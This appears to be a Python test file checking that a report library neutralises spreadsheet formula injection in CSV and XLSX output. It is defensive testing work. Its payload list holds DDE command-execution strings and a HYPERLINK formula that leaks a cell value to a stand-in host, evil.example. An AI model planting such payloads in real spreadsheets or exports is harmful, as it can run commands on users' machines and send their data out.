"""Spreadsheet and CSV cells stay text: formula injection (OWASP "CSV Injection") is
neutralised in one place, and every report writer uses it (ISSUE 9 item 7)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from docgen.cells import (
    FORMULA_TRIGGERS,
    QUOTE,
    cell_text,
    neutralise,
    put_text,
    restore,
    stored_text,
    xlsx_value,
)
from docgen.report import Report, render_csv, write_report

#: Payloads from the OWASP page and the wild: DDE, HYPERLINK exfiltration, @-functions.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A2,"詳細")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "-",
    "'=1+1",
]
#: Any text, including controls, lone surrogates and the full-width forms.
ANY_TEXT = st.text(
    alphabet=st.one_of(
        st.characters(exclude_categories=()),  # surrogates and controls too
        st.sampled_from(sorted(FORMULA_TRIGGERS | {QUOTE})),
    ),
    max_size=30,
)


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_gets_one_quote_in_front(payload: str) -> None:
    assert neutralise(payload) == QUOTE + payload
    assert cell_text(payload) == QUOTE + payload
    assert restore(cell_text(payload)) == payload


@pytest.mark.parametrize("text", ["", "企劃室", "北市管字第1號", "A12345****", "1+1", " =1"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert cell_text(text) == text and restore(text) == text


def test_characters_an_xlsx_cannot_hold_are_replaced() -> None:
    assert stored_text("a\x00b\x1bc\ufffe\ud800") == "a\ufffdb\ufffdc\ufffd\ufffd"
    assert stored_text("tab\tline\ncr\r") == "tab\tline\ncr\r"
    assert cell_text("\x01=1") == "\ufffd=1"  # no longer a formula start


def test_numbers_and_dates_are_not_text() -> None:
    assert xlsx_value(-5) == -5 and xlsx_value(2.5) == 2.5
    assert xlsx_value(date(2026, 10, 1)) == date(2026, 10, 1)
    assert xlsx_value(None) is None
    assert xlsx_value("-5") == "'-5"


@given(ANY_TEXT)
def test_the_neutralised_text_never_starts_a_formula(text: str) -> None:
    safe = cell_text(text)
    assert not safe or safe[0] not in FORMULA_TRIGGERS
    assert restore(safe) == stored_text(text)
    if stored_text(text) == text:
        assert restore(safe) == text


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(ANY_TEXT, min_size=1, max_size=20))
def test_an_xlsx_report_holds_no_formula_and_gives_the_text_back(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    target = tmp_path_factory.mktemp("cells") / "r.xlsx"
    rows = [{"text": t, "number": -n} for n, t in enumerate(texts)]
    write_report(Report("t", {"text": "=header", "number": "-n"}, rows), "xlsx", target)
    assert "<f>" not in _sheet_xml(target) and "<f " not in _sheet_xml(target)
    sheet = load_workbook(target).active
    assert sheet is not None
    assert sheet["A1"].value == "'=header" and sheet["B1"].value == "'-n"
    for index, text in enumerate(texts, start=2):
        cell = sheet.cell(index, 1)
        expected = cell_text(text)
        assert cell.data_type != "f"
        if expected:
            assert cell.data_type == "s"
        assert (cell.value or "") == expected
        assert restore(cell.value or "") == stored_text(text)
        assert sheet.cell(index, 2).value == -(index - 2)  # numbers stay numbers


@settings(max_examples=50, deadline=None)
@given(st.lists(ANY_TEXT, min_size=1, max_size=20))
def test_a_csv_report_is_neutralised_and_gives_the_text_back(texts: list[str]) -> None:
    rows = [{"text": t, "number": -n} for n, t in enumerate(texts)]
    data = render_csv(Report("t", {"text": "@header", "number": "n"}, rows))
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert read[0] == ["'@header", "n"]
    for (text, number), row in zip(((t, -n) for n, t in enumerate(texts)), read[1:], strict=True):
        assert not row[0] or row[0][0] not in FORMULA_TRIGGERS
        assert restore(row[0]) == stored_text(text)
        assert row[1] == str(number)  # -3 is a number, not text to neutralise


def test_put_text_stores_a_string_not_a_formula() -> None:
    from openpyxl import Workbook

    sheet = Workbook().active
    assert sheet is not None
    cell = put_text(sheet["A1"], "=cmd|' /C calc'!A0")
    assert cell.data_type == "s" and cell.value == "'=cmd|' /C calc'!A0"
    assert put_text(sheet["A2"], 42).data_type == "n"
    assert put_text(sheet["A3"], datetime(2026, 10, 1, 9)).data_type == "d"


def test_every_report_format_neutralises_and_keeps_numbers(tmp_path: Path) -> None:
    """Before ISSUE 9 item 7 the XLSX held live formulas and the CSV raw payloads."""
    rows = [{"who": p, "n": -1, "on": date(2026, 10, 1)} for p in PAYLOADS]
    report = Report("r", {"who": "查詢人員", "n": "差", "on": "日期"}, rows)
    xlsx = tmp_path / "r.xlsx"
    write_report(report, "xlsx", xlsx)
    assert "<f>" not in _sheet_xml(xlsx)
    sheet = load_workbook(xlsx).active
    assert sheet is not None
    for index, payload in enumerate(PAYLOADS, start=2):
        assert sheet.cell(index, 1).data_type == "s"
        assert sheet.cell(index, 1).value == QUOTE + payload
        assert sheet.cell(index, 2).value == -1 and sheet.cell(index, 2).data_type == "n"
        assert sheet.cell(index, 3).value == datetime(2026, 10, 1)
    csv_file = tmp_path / "r.csv"
    write_report(report, "csv", csv_file)
    with open(csv_file, encoding="utf-8-sig", newline="") as handle:
        read = list(csv.reader(handle))
    assert [r[0] for r in read[1:]] == [QUOTE + p for p in PAYLOADS]
    assert {r[1] for r in read[1:]} == {"-1"} and {r[2] for r in read[1:]} == {"2026-10-01"}


def test_a_time_zone_does_not_stop_the_xlsx(tmp_path: Path) -> None:
    from datetime import timedelta, timezone

    taipei = timezone(timedelta(hours=8))
    target = tmp_path / "tz.xlsx"
    write_report(
        Report("t", {"a": "A"}, [{"a": datetime(2026, 10, 1, 9, tzinfo=taipei)}]), "xlsx", target
    )
    sheet = load_workbook(target).active
    assert sheet is not None and sheet["A2"].value == datetime(2026, 10, 1, 9)


def test_the_table_escapes_control_characters() -> None:
    from docgen.report import render_table

    text = render_table(Report("r", {"a": "A"}, [{"a": "x\x1b[2J\ry"}]))
    assert "\x1b" not in text and "\r" not in text and "x\\x1b[2J\\ry" in text


def test_a_lone_surrogate_does_not_stop_any_format(tmp_path: Path) -> None:
    """A JSON input may hold "\\ud800"; every format still writes."""
    import json

    report = Report("r", {"a": "A"}, [{"a": "x\ud800y"}])
    for fmt in ("table", "json", "csv", "xlsx"):
        write_report(report, fmt, tmp_path / f"r.{fmt}")
    assert json.loads((tmp_path / "r.json").read_text("utf-8"))["rows"][0]["a"] == "x\ud800y"
